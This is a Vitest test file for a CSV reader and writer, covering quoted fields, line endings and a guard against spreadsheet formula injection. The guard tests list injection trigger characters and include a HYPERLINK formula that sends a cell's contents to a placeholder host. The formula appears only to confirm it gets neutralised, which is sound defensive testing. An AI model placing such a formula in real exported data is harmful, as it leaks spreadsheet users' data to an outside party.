// The CSV reader and writer: what spreadsheets actually save (quotes, commas and newlines inside
// fields, CRLF, a BOM), and the errors that name the line.
import { describe, expect, it } from 'vitest';
import {
  csvField,
  formatCsv,
  guardSpreadsheetCell,
  isBlankRecord,
  parseCsv,
  unguardSpreadsheetCell,
} from '../../src/domain/csv.js';

function fields(text: string): string[][] {
  const r = parseCsv(text);
  if (!r.ok) throw new Error(`line ${r.line}: ${r.message}`);
  return r.records.map((x) => x.fields);
}

describe('parseCsv', () => {
  it('splits plain records on LF, with or without a final newline', () => {
    expect(fields('a,b,c\n1,2,3\n')).toEqual([
      ['a', 'b', 'c'],
      ['1', '2', '3'],
    ]);
    expect(fields('a,b,c\n1,2,3')).toEqual([
      ['a', 'b', 'c'],
      ['1', '2', '3'],
    ]);
  });

  it('accepts CRLF and lone CR line ends', () => {
    expect(fields('a,b\r\n1,2\r\n')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
    expect(fields('a,b\r1,2\r')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  it('drops a UTF-8 byte order mark', () => {
    const [header] = fields('\uFEFFclient_code,notes\nPIC-1,x\n');
    expect(header).toEqual(['client_code', 'notes']);
  });

  it('reads quoted fields holding commas, doubled quotes and newlines', () => {
    expect(fields('a,"b, c","say ""hi""","line 1\nline 2",e\n')).toEqual([
      ['a', 'b, c', 'say "hi"', 'line 1\nline 2', 'e'],
    ]);
    expect(fields('"x\r\ny"\r\nz\r\n')).toEqual([['x\r\ny'], ['z']]);
  });

  it('keeps empty fields, including a trailing one and an empty quoted one', () => {
    expect(fields('a,,b,\n"",x\n')).toEqual([
      ['a', '', 'b', ''],
      ['', 'x'],
    ]);
  });

  it('numbers records by the line they start on, counting newlines inside quotes', () => {
    const r = parseCsv('h1,h2\n"one\ntwo\r\nthree",x\nnext,y\r\n\r\nlast,z');
    expect(r.ok && r.records.map((x) => x.line)).toEqual([1, 2, 5, 6, 7]);
  });

  it('keeps a quote inside an unquoted field as text', () => {
    expect(fields('5" tall,x\n')).toEqual([['5" tall', 'x']]);
  });

  it('reports a quote never closed at the line it opened on', () => {
    expect(parseCsv('a,b\n1,"open\n2,3\n')).toEqual({ ok: false, line: 2, message: 'a quoted field is never closed' });
  });

  it('reports text after a closing quote', () => {
    const r = parseCsv('a\n"x"y,2\n');
    expect(r).toMatchObject({ ok: false, line: 2 });
  });

  it('treats blank lines as blank records', () => {
    const r = parseCsv('a,b\n\n , \n1,2\n');
    expect(r.ok && r.records.map(isBlankRecord)).toEqual([false, true, true, false]);
  });

  it('reads an empty file as no records', () => {
    expect(fields('')).toEqual([]);
    expect(fields('\uFEFF')).toEqual([]);
  });
});

describe('formatCsv', () => {
  it('quotes only what needs it', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(' padded ')).toBe('" padded "');
    expect(csvField('')).toBe('');
  });

  it('round-trips through parseCsv', () => {
    const rows = [
      ['client_code', 'notes', 'empty'],
      ['PIC-0042', 'He said "no", then:\r\nleft, quickly', ''],
      ['PIC-0043', '', ' x '],
    ];
    const text = formatCsv(rows);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(fields(text)).toEqual(rows);
  });
});

describe('the spreadsheet formula guard', () => {
  // OWASP's CSV injection triggers: a cell beginning with one of these is a formula to a spreadsheet.
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

  it('prefixes every trigger with a single quote and quotes the field', () => {
    for (const t of TRIGGERS) {
      const value = `${t}1+1`;
      expect(guardSpreadsheetCell(value)).toBe(`'${value}`);
      expect(csvField(value)).toBe(`"'${value}"`);
    }
    expect(csvField('=HYPERLINK("https://x.example/?"&B2,"click")')).toBe(
      `"'=HYPERLINK(""https://x.example/?""&B2,""click"")"`,
    );
    // Triggers inside a cell, and plain text, are left alone.
    for (const v of ['a=1', 'PIC-0042', '2024-09-30T23:30-04:00', '60+', 'CAD-2024/1.#2', ''])
      expect(csvField(v)).toBe(v);
  });

  it('gives a cell that truly begins with a quote before a trigger a quote of its own, and leaves other quotes alone', () => {
    expect(guardSpreadsheetCell(`'=1+1`)).toBe(`''=1+1`);
    expect(guardSpreadsheetCell(`''-2`)).toBe(`'''-2`);
    expect(guardSpreadsheetCell(`'twas the night`)).toBe(`'twas the night`);
    expect(unguardSpreadsheetCell(`'twas the night`)).toBe(`'twas the night`);
  });

  it('is undone exactly by unguardSpreadsheetCell, for any text', () => {
    const parts = [`'`, `''`, ...TRIGGERS, 'a', ' ', '"', ',', '\n', '1'];
    let values = [''];
    for (let depth = 0; depth < 3; depth++)
      values = [...values, ...values.flatMap((v) => parts.map((p) => `${p}${v}`))];
    expect(values.length).toBeGreaterThan(2000);
    for (const v of values) expect(unguardSpreadsheetCell(guardSpreadsheetCell(v))).toBe(v);
    // Through the CSV text too: what parseCsv reads back, unguarded, is the original.
    const text = formatCsv(values.map((v) => [v, 'x']));
    expect(fields(text).map((r) => unguardSpreadsheetCell(r[0]!))).toEqual(values);
    // And no cell a spreadsheet reads starts a formula.
    expect(fields(text).filter((r) => /^[=+\-@\t\r]/.test(r[0]!))).toEqual([]);
  });
});
